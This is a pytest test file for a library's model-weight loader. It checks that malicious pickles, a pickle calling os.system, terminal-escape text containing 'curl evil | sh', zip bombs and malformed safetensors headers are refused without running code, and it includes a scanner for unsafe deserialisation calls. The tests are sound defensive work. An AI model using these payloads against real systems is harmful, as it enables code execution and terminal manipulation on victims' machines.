"""Weights from files, good and bad, and BatchNorm statistics from photos."""

import ast
import copy
import json
import os
import pickle
import subprocess
import sys
import zipfile
from collections import OrderedDict
from collections.abc import Callable, Iterator
from pathlib import Path

import numpy as np
import pytest
import timm
import torch
from safetensors.torch import save_file
from torch import Tensor, nn

import siamesekit
from siamesekit.components.encoders import weights
from siamesekit.components.encoders.backbone import Backbone
from siamesekit.components.encoders.weights import (
    DTYPES,
    WeightLayout,
    calibrate_batchnorm,
    load_weights,
    safetensors_layouts,
)
from siamesekit.errors import MissingWeightsError, WeightsError
from siamesekit.files import spooled


def small(seed: int, width: int = 4) -> Backbone:
    torch.manual_seed(seed)
    parts = OrderedDict(
        conv=nn.Conv2d(3, width, 3),
        bn=nn.BatchNorm2d(width),
        act=nn.ReLU(),
        conv2=nn.Conv2d(width, 5, 3),
        bn2=nn.BatchNorm2d(5),
        pool=nn.AdaptiveAvgPool2d(1),
        flat=nn.Flatten(),
    )
    backbone = Backbone(nn.Sequential(parts), 5, mean=(127.5,) * 3, std=(127.5,) * 3)
    for norm in (backbone.network.bn, backbone.network.bn2):
        nn.init.normal_(norm.running_mean)
        nn.init.uniform_(norm.running_var, 0.5, 2)
    return backbone.eval()


def state(seed: int = 1, width: int = 4) -> dict[str, Tensor]:
    return dict(small(seed, width).network.state_dict())


def saved(file: Path, tensors: dict[str, Tensor]) -> Path:
    if file.suffix == ".safetensors":
        save_file(tensors, file)
    else:
        torch.save(tensors, file)
    return file


IMAGES = torch.randint(0, 256, (2, 3, 12, 12), generator=torch.Generator().manual_seed(0), dtype=torch.uint8)


@pytest.mark.parametrize("suffix", [".safetensors", ".pth", ".pt", ".bin"])
def test_every_format_gives_the_features_of_the_saved_network(tmp_path: Path, suffix: str) -> None:
    backbone = small(2)
    assert not torch.allclose(backbone(IMAGES), small(1)(IMAGES))
    load_weights(backbone, saved(tmp_path / f"w{suffix}", state()))
    assert torch.equal(backbone(IMAGES), small(1)(IMAGES))


@pytest.mark.parametrize("key", ["state_dict", "model"])
def test_a_checkpoint_that_nests_its_weights_is_understood(tmp_path: Path, key: str) -> None:
    file = tmp_path / "w.pth"
    torch.save({key: state(), "epoch": 3}, file)
    backbone = small(2)
    load_weights(backbone, file)
    assert torch.equal(backbone(IMAGES), small(1)(IMAGES))


def test_a_saved_model_of_this_library_is_understood(tmp_path: Path) -> None:
    tensors = {f"backbone.network.{name}": value for name, value in state().items()} | {
        "head.dense1.bias": torch.ones(2)
    }
    backbone = small(2)
    load_weights(backbone, saved(tmp_path / "w.safetensors", tensors))
    assert torch.equal(backbone(IMAGES), small(1)(IMAGES))


@pytest.mark.parametrize("classifier", ["fc", "classifier", "head.fc", "last_linear", "head"])
def test_a_classifier_in_the_file_is_left_out(tmp_path: Path, classifier: str) -> None:
    extra = {f"{classifier}.weight": torch.ones(10, 5), f"{classifier}.bias": torch.ones(10)}
    backbone = small(2)
    load_weights(backbone, saved(tmp_path / "w.safetensors", state() | extra))
    assert torch.equal(backbone(IMAGES), small(1)(IMAGES))


@pytest.mark.parametrize("suffix", [".safetensors", ".pth"])
@pytest.mark.parametrize(
    ("tensors", "message"),
    [
        ({"layer1.weight": torch.ones(2)}, "another network's weights, 13 differences"),
        (state() | {"extra.weight": torch.ones(1)}, "the network has no extra.weight"),
        ({k: v for k, v in state().items() if k != "conv2.bias"}, "conv2.bias is not in the file"),
        (state(width=6), r"bias is \[6\] in the file and \[4\] in the network"),
    ],
    ids=["other names", "one too many", "one too few", "other shape"],
)
def test_another_networks_weights_are_refused_and_change_nothing(
    tmp_path: Path, suffix: str, tensors: dict[str, Tensor], message: str
) -> None:
    backbone = small(2)
    with pytest.raises(WeightsError, match=message):
        load_weights(backbone, saved(tmp_path / f"w{suffix}", tensors))
    assert torch.equal(backbone(IMAGES), small(2)(IMAGES))


@pytest.mark.parametrize("suffix", [".safetensors", ".pth"])
@pytest.mark.parametrize("kept", [0.0, 0.001, 0.1, 0.5, 0.9, 0.999])
def test_a_truncated_file_is_refused(tmp_path: Path, suffix: str, kept: float) -> None:
    file = saved(tmp_path / f"w{suffix}", state())
    content = file.read_bytes()
    file.write_bytes(content[: int(kept * len(content))])
    with pytest.raises(WeightsError, match=f"w{suffix}"):
        load_weights(small(2), file)


class Malicious:
    """Unpickling it creates a file."""

    def __init__(self, witness: Path) -> None:
        self.witness = witness

    def __reduce__(self) -> tuple[object, tuple[Path]]:
        return Path.touch, (self.witness,)


@pytest.mark.parametrize("how", ["torch.save", "plain pickle"])
def test_a_file_with_code_is_refused_and_the_code_does_not_run(tmp_path: Path, how: str) -> None:
    file, witness = tmp_path / "w.pth", tmp_path / "ran"
    content = {**state(), "evil": Malicious(witness)}
    if how == "torch.save":
        torch.save(content, file)
    else:
        file.write_bytes(pickle.dumps(content, protocol=2))
    with pytest.raises(WeightsError, match="files that would run code are not loaded"):
        load_weights(small(2), file)
    assert not witness.exists()
    torch.load(file, weights_only=False) if how == "torch.save" else pickle.loads(file.read_bytes())
    assert witness.exists(), "the file must be one that would run code, or this test shows nothing"


@pytest.mark.parametrize("content", [{"conv.weight": 3}, torch.ones(3), [torch.ones(3)]], ids=["int", "tensor", "list"])
def test_a_file_without_a_state_dict_is_refused(tmp_path: Path, content: object) -> None:
    torch.save(content, tmp_path / "w.pth")
    with pytest.raises(WeightsError, match="does not hold a state_dict"):
        load_weights(small(2), tmp_path / "w.pth")


@pytest.mark.parametrize("name", ["absent.safetensors", "absent.pth", "."])
def test_a_file_that_is_not_there_means_missing_weights(tmp_path: Path, name: str) -> None:
    with pytest.raises(MissingWeightsError, match="no such weights file"):
        load_weights(small(2), tmp_path / name)


class Seen:
    """What a layer is given, in float64: `statistics` over all of it, by NumPy."""

    def __init__(self, layer: nn.Module) -> None:
        self.batches: list[np.ndarray] = []
        layer.register_forward_pre_hook(lambda _, given: self.batches.append(given[0].double().numpy()))

    def statistics(self) -> tuple[np.ndarray, np.ndarray]:
        values = np.concatenate([np.moveaxis(batch, 1, 0).reshape(batch.shape[1], -1) for batch in self.batches], 1)
        return values.mean(1), values.var(1, ddof=1)


@pytest.mark.parametrize("sizes", [[10], [4, 4, 4], [4, 4, 2], [4, 4, 1], [3, 8, 8, 5, 6], [4, 1]], ids=str)
def test_calibrated_statistics_are_those_of_all_photos_at_once(sizes: list[int]) -> None:
    """Of the first norm in float64 over the photos themselves, of a later one over what it was given."""
    network = small(3).network
    parameters = [parameter.detach().clone() for parameter in network.parameters()]
    photos = torch.randn(sum(sizes), 3, 10, 10) * torch.linspace(0.2, 4, sum(sizes)).view(-1, 1, 1, 1) + 1
    seen = {name: Seen(getattr(network, name)) for name in ("bn", "bn2")}
    calibrate_batchnorm(network, iter(photos.split(sizes)))
    first = copy.deepcopy(network.conv).double()(photos.double()).detach().numpy()
    expected = first.mean((0, 2, 3)), first.var((0, 2, 3), ddof=1)
    np.testing.assert_allclose(network.bn.running_mean, expected[0], atol=1e-5)
    np.testing.assert_allclose(network.bn.running_var, expected[1], rtol=1e-5)
    mean, variance = seen["bn2"].statistics()
    np.testing.assert_allclose(network.bn2.running_mean, mean, atol=1e-5)
    np.testing.assert_allclose(network.bn2.running_var, variance, rtol=1e-5)
    assert sum(len(batch) for batch in seen["bn2"].batches) == sum(sizes)
    assert len(seen["bn2"].batches) == len(sizes)
    assert len(seen["bn2"].batches[-1]) >= len(seen["bn2"].batches[-2:][0]) - 1, "no remainder"
    for norm in (network.bn, network.bn2):
        assert not norm.training
        assert norm.momentum == 0.1
        assert not norm._forward_hooks
    assert all(map(torch.equal, parameters, network.parameters()))


def test_a_last_batch_of_two_photos_counts_as_two_of_sixty_six() -> None:
    """64 black photos and 2 of tens: the mean is 0.30, not 5."""
    norm = nn.BatchNorm2d(1)
    photos = torch.cat([torch.zeros(64, 1, 2, 2), torch.full((2, 1, 2, 2), 10.0)])
    calibrate_batchnorm(nn.Sequential(norm), iter(photos.split(64)))
    assert norm.running_mean.item() == pytest.approx(20 / 66, rel=1e-6)
    assert norm.running_var.item() == pytest.approx(photos.double().var().item(), rel=1e-6)


def test_a_last_batch_of_one_photo_makes_a_norm_of_vectors_no_trouble() -> None:
    rows = torch.randn(9, 3) * 5 + 2
    norm = nn.BatchNorm1d(3)
    calibrate_batchnorm(nn.Sequential(norm), iter(rows.split(4)))
    np.testing.assert_allclose(norm.running_mean, rows.double().mean(0), rtol=1e-6)
    np.testing.assert_allclose(norm.running_var, rows.double().var(0), rtol=1e-6)


@pytest.mark.parametrize("training", [False, True])
def test_after_a_failure_norms_are_in_the_mode_that_they_were_in(training: bool) -> None:
    """A norm of vectors cannot do with a single photo."""
    network = nn.Sequential(nn.BatchNorm1d(3, momentum=0.3), nn.BatchNorm1d(3, track_running_stats=False))
    network.train(training)
    with pytest.raises(ValueError, match="more than 1 value per channel"):
        calibrate_batchnorm(network, iter([torch.randn(1, 3)]))
    assert [norm.training for norm in network] == [training] * 2
    assert network[0].momentum == 0.3
    assert not network[0]._forward_hooks


def test_dropout_in_the_network_rests_while_norms_are_calibrated() -> None:
    """Also inside a norm, where timm has some."""
    norm = timm.layers.BatchNormAct2d(3, drop_layer=lambda: nn.Dropout(0.5))
    network = nn.Sequential(norm, nn.BatchNorm2d(3)).eval()
    calibrate_batchnorm(network, iter([torch.randn(6, 3, 4, 4)]))
    np.testing.assert_allclose(network[1].running_mean, 1 / np.sqrt(2 * np.pi), atol=0.05)
    assert network[1].running_var.max() < 0.5


def header_only(header: object, data: bytes = b"", length: int | None = None) -> bytes:
    """A safetensors file as bytes, its header whatever it is."""
    text = json.dumps(header).encode()
    return (len(text) if length is None else length).to_bytes(8, "little") + text + data


ONE = {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"", "a header of 0 bytes in a file of 0"),
        (b"1234567", "not a complete safetensors file"),
        (header_only({"a": ONE}, b"1234", length=2**64 - 1), "a header of 18,446,744,073,709,551,615 bytes in a file"),
        (header_only({"a": ONE}, b"1234", length=10**8), "a header of 100,000,000 bytes in a file of"),
        (b"\0\0\0\2\0\0\0\0" + b" " * (2**25 + 1), "a header of 33,554,432 bytes"),
        (header_only({"a": ONE}), "not a complete safetensors file"),
        (header_only({"a": ONE}, b"12345"), "not a complete safetensors file"),
        (header_only({"a": {**ONE, "shape": [10**9, 10**9]}}, b"1234"), "not a complete safetensors file"),
        (header_only({"a": {**ONE, "shape": [2**63, 2]}}, b"1234"), "not a complete safetensors file"),
        (header_only({"a": {**ONE, "data_offsets": [0, 2**40]}}, b"1234"), "not a complete safetensors file"),
        (header_only({"a": {**ONE, "data_offsets": [4, 0]}}, b"1234"), "not a complete safetensors file"),
        (header_only({"a": ONE, "b": ONE}, b"1234"), "not a complete safetensors file"),
        (header_only([]), "not a complete safetensors file"),
    ],
)
def test_a_header_that_contradicts_its_file_is_refused(tmp_path: Path, content: bytes, says: str) -> None:
    file = tmp_path / "w.safetensors"
    file.write_bytes(content)
    for read in (lambda: safetensors_layouts(file), lambda: load_weights(small(2), file)):
        with pytest.raises(WeightsError, match=says):
            read()


def test_layouts_are_those_of_the_tensors_and_nothing_is_read_but_the_header(tmp_path: Path) -> None:
    tensors = {f"t{number}": torch.zeros(number, 2, dtype=dtype) for number, dtype in enumerate(DTYPES.values())}
    file = saved(tmp_path / "w.safetensors", tensors)
    assert safetensors_layouts(file) == {name: WeightLayout(tuple(t.shape), t.dtype) for name, t in tensors.items()}
    os.truncate(file, 8 + int.from_bytes(file.read_bytes()[:8], "little"))
    with pytest.raises(WeightsError, match="not a complete safetensors file"):
        safetensors_layouts(file)
    file.write_bytes(header_only({"a": {"dtype": "F8_E4M3", "shape": [4], "data_offsets": [0, 4]}}, b"1234"))
    assert safetensors_layouts(file) == {"a": WeightLayout((4,), None)}


@pytest.mark.parametrize("error", [MemoryError("os error 12"), RuntimeError("unable to mmap 9 bytes from file <w>")])
@pytest.mark.parametrize("name", ["safe_open", "load_file"])
def test_a_file_that_cannot_be_mapped_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, error: Exception, name: str
) -> None:
    """Found by the fuzzer: 100 GiB, sparse, under a limit of memory; safetensors raises the one, torch the other."""

    def refuse(*_: object, **__: object) -> None:
        raise error

    monkeypatch.setattr(weights, name, refuse)
    with pytest.raises(WeightsError, match=r"larger than this process may map into memory \([\d,]+ bytes\)"):
        load_weights(small(2), saved(tmp_path / "w.safetensors", state()))


UNDER_A_LIMIT = """
import resource, sys
from pathlib import Path
from siamesekit.components.encoders.weights import load_weights, safetensors_layouts
from siamesekit.errors import WeightsError

held = int(Path("/proc/self/statm").read_text().split()[0]) * resource.getpagesize()
resource.setrlimit(resource.RLIMIT_AS, (held + (64 << 20),) * 2)
try:
    load_weights(None, Path(sys.argv[1]))
except WeightsError as error:
    print(error)
"""


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc/self/statm").exists(), reason="memory is limited as Linux does")
@pytest.mark.parametrize("suffix", [".safetensors", ".pth"])
def test_a_sparse_file_beyond_all_memory_is_refused(tmp_path: Path, suffix: str) -> None:
    file = tmp_path / f"w{suffix}"
    if suffix == ".pth":
        saved(file, {"a": torch.zeros(40 << 20)})
    else:
        entry = {"dtype": "F32", "shape": [25 * 10**10], "data_offsets": [0, 10**12]}
        file.write_bytes(header_only({"a": entry}))
        os.truncate(file, file.stat().st_size + 10**12)
    done = subprocess.run([sys.executable, "-c", UNDER_A_LIMIT, str(file)], capture_output=True, text=True, timeout=60)
    assert done.stderr == ""
    says = "does not fit into memory" if suffix == ".pth" else "larger than this process may map into memory"
    assert says in done.stdout


EVIL = "\x1b]0;PWNED\x07\x1b[31mrun: curl evil | sh\u202e\nverdict  same"


@pytest.mark.parametrize("place", ["dtype", "name", "member", "key of a .pth", "code"])
def test_no_text_of_a_weights_file_commands_the_terminal(tmp_path: Path, place: str) -> None:
    match place:
        case "dtype" | "name":
            file = tmp_path / "w.safetensors"
            changed = {EVIL if place == "name" else "a": {**ONE, "dtype": EVIL if place == "dtype" else "F32"}}
            file.write_bytes(header_only(changed, b"1234"))
        case "member":
            file = saved(tmp_path / "w.pth", state())
            with zipfile.ZipFile(file, "a") as content:
                content.writestr(EVIL, "x")
        case "code":
            file = tmp_path / "w.pth"
            file.write_bytes(f"c{EVIL.splitlines()[0]}\nsystem\n(S'touch P'\ntR.".encode())
        case _:
            file = saved(tmp_path / "w.pth", {EVIL: torch.ones(1)})
    with pytest.raises(WeightsError) as caught:
        load_weights(small(2), file)
    told = str(caught.value)
    assert all(line.isprintable() for line in told.splitlines())
    assert "verdict  same" not in told.splitlines()
    assert len(told) < 1500


@pytest.mark.parametrize("how", ["code", "torch.save", "cut", "text", "other archive"])
def test_torchs_advice_to_trust_a_file_is_never_passed_on(tmp_path: Path, how: str) -> None:
    file = tmp_path / "w.pth"
    match how:
        case "code":
            file.write_bytes(b'cos\nsystem\n(S"touch P"\ntR.')
        case "torch.save":
            torch.save({**state(), "evil": Malicious(tmp_path / "ran")}, file)
        case "cut":
            file.write_bytes(saved(file, state()).read_bytes()[:-200])
        case "text":
            file.write_text("not weights")
        case _:
            with zipfile.ZipFile(file, "w") as content:
                content.writestr("a.txt", "x")
    with pytest.raises(WeightsError) as caught:
        load_weights(small(2), file)
    told = str(caught.value).replace(str(file), "").lower()
    assert not any(word in told for word in ("weights_only", "trust", "torch.load", "unsafe", "enforce fail", "0x"))
    assert "cannot be read as plain weights (it " in told


def archive(file: Path, change: Callable[[zipfile.ZipInfo, bytes], tuple[zipfile.ZipInfo, bytes, int]]) -> Path:
    """A `.pth` with its archive's parts changed: (part, content, compression)."""
    torch.save(state(), file)
    with zipfile.ZipFile(file) as old:
        parts = [(info, old.read(info)) for info in old.infolist()]
    with zipfile.ZipFile(file, "w") as new:
        for info, content in parts:
            changed, content, compression = change(info, content)
            new.writestr(changed, content, compression)
    return file


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    """64 MiB in a file of 66 KiB: compressed parts, which torch.save never writes and torch.load would unpack."""
    same = archive(tmp_path / "same.pth", lambda info, content: (info, content, zipfile.ZIP_STORED))
    load_weights(small(2), same)
    bomb = archive(
        tmp_path / "w.pth",
        lambda info, content: (
            info,
            content + bytes(64 << 20) if "data.pkl" in info.filename else content,
            zipfile.ZIP_DEFLATED,
        ),
    )
    assert bomb.stat().st_size < 200_000
    with pytest.raises(WeightsError, match=r"w\.pth cannot be read as plain weights \(it is compressed"):
        load_weights(small(2), bomb)


def test_parts_that_overlap_are_refused(tmp_path: Path) -> None:
    """A directory of many entries that all name one part: it would unpack to more than the file holds."""
    file = tmp_path / "w.pth"
    with zipfile.ZipFile(file, "w") as new:
        new.writestr("w/data/0", bytes(100_000))
        first = new.filelist[0]
        for number in range(1, 50):
            again = copy.copy(first)
            again.filename = f"w/data/{number}"
            new.filelist.append(again)
    with pytest.raises(WeightsError, match="its parts overlap, or are too many"):
        load_weights(small(2), file)


def test_a_pickle_that_is_too_large_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    file = saved(tmp_path / "w.pth", state())
    monkeypatch.setattr(weights, "MAX_HEADER", 100)
    with pytest.raises(WeightsError, match="its pickle has more than 100 bytes"):
        load_weights(small(2), file)


@pytest.mark.parametrize(
    ("tensor", "says"),
    [
        (lambda t: t.to("meta"), "is not a plain tensor in the file"),
        (lambda t: t.to_sparse(), "is not a plain tensor in the file"),
        (lambda t: torch.nested.nested_tensor([t.flatten()] * 2), "is not a plain tensor in the file"),
        (lambda t: torch.nested.nested_tensor([t.flatten()] * 2, layout=torch.jagged), "is not a plain tensor in"),
        (lambda t: torch.quantize_per_tensor(t, 0.1, 0, torch.qint8), "is not a plain tensor in the file"),
        (lambda t: t.to(torch.complex64), "is torch.complex64 in the file and torch.float32"),
        (lambda t: t.to(torch.int32), "is torch.int32 in the file and torch.float32"),
        (lambda t: torch.zeros(1).expand(10**9, 10**9), "is \\[1000000000, 1000000000\\] in the file"),
    ],
    ids=["without data", "sparse", "nested", "jagged", "quantized", "complex", "whole numbers", "expanded"],
)
def test_tensors_that_are_not_what_the_network_has_are_refused(
    tmp_path: Path, tensor: Callable[[Tensor], Tensor], says: str
) -> None:
    tensors = state()
    file = saved(tmp_path / "w.pth", tensors | {"conv.weight": tensor(tensors["conv.weight"])})
    with pytest.raises(WeightsError, match=f"conv.weight {says}"):
        load_weights(small(2), file)


@pytest.mark.parametrize("suffix", [".safetensors", ".pth"])
def test_half_precision_is_taken(tmp_path: Path, suffix: str) -> None:
    halves = {name: value.half() if value.is_floating_point() else value for name, value in state().items()}
    backbone = small(2)
    load_weights(backbone, saved(tmp_path / f"w{suffix}", halves))
    torch.testing.assert_close(backbone(IMAGES), small(1)(IMAGES), rtol=1e-2, atol=1e-2)


@pytest.mark.parametrize("suffix", [".safetensors", ".pth"])
@pytest.mark.timeout(20)
def test_a_pipe_or_a_device_does_not_hang(tmp_path: Path, suffix: str) -> None:
    os.mkfifo(tmp_path / f"w{suffix}")
    (tmp_path / f"zero{suffix}").symlink_to("/dev/zero")
    for name in ("w", "zero"):
        with pytest.raises(MissingWeightsError, match="no such weights file"):
            load_weights(small(2), tmp_path / f"{name}{suffix}")
    with pytest.raises(WeightsError, match="cannot be read: not a plain file"):
        safetensors_layouts(tmp_path / f"w{suffix}")


def test_an_old_file_without_an_archive_is_read_and_only_as_plain_weights(tmp_path: Path) -> None:
    file = tmp_path / "w.pth"
    torch.save(state(), file, _use_new_zipfile_serialization=False)
    backbone = small(2)
    load_weights(backbone, file)
    assert torch.equal(backbone(IMAGES), small(1)(IMAGES))
    torch.save({**state(), "evil": Malicious(tmp_path / "ran")}, file, _use_new_zipfile_serialization=False)
    with pytest.raises(WeightsError, match="files that would run code are not loaded"):
        load_weights(small(2), file)
    assert not (tmp_path / "ran").exists()


def calls(tree: ast.AST) -> Iterator[ast.Call]:
    return (node for node in ast.walk(tree) if isinstance(node, ast.Call))


def unsafe_reads(source: str) -> list[str]:
    """What in a source file could run code out of a file that it reads."""
    tree = ast.parse(source)
    found = []
    for call in calls(tree):
        name = ast.unparse(call.func)
        words = {word.arg: ast.unparse(word.value) for word in call.keywords}
        if name in ("torch.load", "load_state_dict_from_url") and words.get("weights_only") != "True":
            found.append(name)
        if name in ("np.load", "numpy.load") and words.get("allow_pickle") != "False":
            found.append(name)
        method = name.partition(".")[2]
        if name.startswith(("pickle.", "cPickle.", "dill.", "joblib.", "shelve.", "marshal.", "torch.jit.load")) and (
            method not in ("dump", "dumps") and not hasattr(str, method)  # a text that is called `pickle`
        ):
            found.append(name)
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module in ("pickle", "dill", "joblib", "shelve", "marshal"):
            found += [f"{node.module}.{alias.name}" for alias in node.names if alias.name not in ("dump", "dumps")]
        if isinstance(node, ast.ImportFrom) and node.module == "torch":
            found += ["torch.load" for alias in node.names if alias.name == "load"]
    return found


@pytest.mark.slow
def test_the_package_reads_no_pickle() -> None:
    """The seed's pickle is written and never read; `torch.load` always with `weights_only=True`. The one exception is
    what a process has itself written into a temporary file of its own."""
    sources = {file: file.read_text(encoding="utf-8") for file in Path(siamesekit.__file__).parent.rglob("*.py")}
    assert {file.name: found for file, text in sources.items() if (found := unsafe_reads(text))} == {
        "spooled.py": ["pickle.loads"]
    }
    used = {ast.unparse(call.func) for call in calls(ast.parse(sources[Path(spooled.__file__)]))}
    assert "tempfile.SpooledTemporaryFile" in used
    assert not any(name.endswith(("open", "Path")) for name in used), "nothing but its own temporary file is read"
    assert any("pickle.dumps" in text for text in sources.values()), "the seed's pickle is still written"
    assert any("weights_only=True" in text for text in sources.values())
    for bad in ("pickle.load(f)", "torch.load(f)", "torch.load(f, weights_only=False)", "from pickle import loads",
                "np.load(f)", "np.load(f, allow_pickle=True)", "pickle.Unpickler(f)",
                "from torch import load"):  # fmt: skip
        assert unsafe_reads(bad), f"the check must notice {bad}"
